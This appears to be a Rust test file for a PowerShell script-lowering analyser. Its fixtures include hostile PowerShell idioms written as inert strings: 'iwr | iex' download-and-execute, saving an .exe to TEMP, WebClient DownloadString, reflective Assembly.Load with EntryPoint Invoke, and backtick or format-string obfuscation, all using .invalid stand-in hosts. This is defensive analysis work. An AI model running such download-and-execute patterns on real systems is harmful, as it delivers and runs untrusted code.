//! What scripts become. Every sample is inert.

use proptest::prelude::*;

use super::super::shell::show::show;
use crate::ir::Names;

fn lowered(source: &str) -> String {
    let mut names = Names::default();
    let program = super::lower(source, &mut names);
    assert_eq!(program.expressions.len(), program.offsets.len());
    show(&program, &names)
}

macro_rules! lowers {
    ($($name:ident: $($source:expr => $expected:expr),+ $(,)?;)*) => {
        $(#[test]
        fn $name() {
            $(assert_eq!(lowered($source), $expected, "{}", $source);)+
        })*
    };
}

lowers! {
    commands:
        "Invoke-WebRequest -Uri https://a.invalid/x -OutFile $env:TEMP\\x.exe" =>
            r#">(<env.TEMP, "\\x.exe">, invoke-webrequest(uri="https://a.invalid/x", outfile=<env.TEMP, "\\x.exe">))"#,
        "iwr https://a.invalid | iex" =>
            r#"|24 = invoke-webrequest("https://a.invalid"); invoke-expression(stdin=|24)"#,
        "I`E`X 'a'; # comment\nStart-Sleep 5" => r#"invoke-expression("a"); start-sleep("5")"#,
        "Get-Content a > b" => r#">("b", get-content("a"))"#,
        "& 'iex' $x" => "invoke-expression(x)",
        "& $c a -b" => r#"(command)(c, "a", b=true)"#,
        "cmd.exe /c dir; .\\x.ps1 a; curl -s u" =>
            r#"(program)("cmd.exe", ["/c", "dir"]); (file)(".\\x.ps1", ["a"]); (program)("curl", ["-s", "u"])"#;

    objects_and_types:
        "(New-Object Net.WebClient).DownloadString('http://a.invalid')" =>
            r#"system.net.webclient.new().downloadstring("http://a.invalid")"#,
        "[System.Convert]::FromBase64String('QQ==')" => r#"system.convert.frombase64string("QQ==")"#,
        "[Text.Encoding]::UTF8.GetString($b)" => "system.text.encoding.utf8.getstring(b)",
        "[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, @(,$a))" =>
            "system.reflection.assembly.load(b).entrypoint.invoke(null, [a])",
        "$x = [char]65 + [char] 66" => "x = (char(65) Add char(66))",
        "$w.'DownloadString'($u)" => "w.downloadstring(u)";

    expressions:
        "$a = 'it''s' + \"b $c $($d.e) `$f\"" => r#"a = ("it's" Add <"b ", c, " ", d.e, " $f">)"#,
        "('{1}{0}' -f 'b','a')" => r#"<"a", "b">"#,
        "$x = ('a','b') -join ''" => r#"x = -join(["a", "b"], "")"#,
        "-join ($a[3..1])" => "-join(a[?(3, 1)])",
        "'abc' -replace 'b','x'" => r#"-replace("abc", ["b", "x"])"#,
        "$h = @{ a = 1; 'b' = Get-Date }" => r#"h = {"a": 1, "b": get-date()}"#,
        "$x += 0x41 -bxor 3" => "x Add= (65 Xor 3)",
        "$s = @'\nline 'one'\n'@" => r#"s = "line 'one'""#;

    statements:
        "if ($env:CI -eq 'true') { exit } elseif ($a) { b-c } else { d-e }" =>
            r#"if (env.CI Equal "true") {} else {if a {b-c()} else {d-e()}}"#,
        "foreach ($f in Get-ChildItem x) { Remove-Item $f }" =>
            r#"each f in get-childitem("x") {remove-item(f)}"#,
        "1..3 | % { Write-Output $_ }" => "(_ = ?(1, 3), fn() {return write-output(_)}())",
        "function Get-It($a, [string]$b) { Invoke-Expression $a }; Get-It 'x'" =>
            r#"fn get-it(a, b) {return invoke-expression(a)}; get-it("x")"#,
        "function f { param($a) $a }; f 1" => r#"fn f(a) {return a}; f("1")"#,
        "try { a-b } catch { c-d }" => "{a-b()}; {c-d()}",
        "while ($true) { a-b }" => "loop true {a-b()}";
}

#[test]
fn deep_and_long_scripts_end() {
    for piece in [
        "(", "$(", "{", "[a]", "!", "@{a=", "\"$(", "if(", "a | ", "-join ", "$a.b", "1,", "1+", "& ", ",", "[a]::b(",
        "$a[", "x-y ",
    ] {
        super::lower(&piece.repeat(20_000), &mut Names::default());
    }
}

proptest! {
    #[test]
    fn nothing_panics(source in r#"([a-zA-Z$(){}'"`|&;<>@\[\],.:=+*/!#%\\ \n-]|iex |if |-join |::|@'|\$\(|é|0x|1\.\.2){0,60}"#) {
        lowered(&source);
    }
}
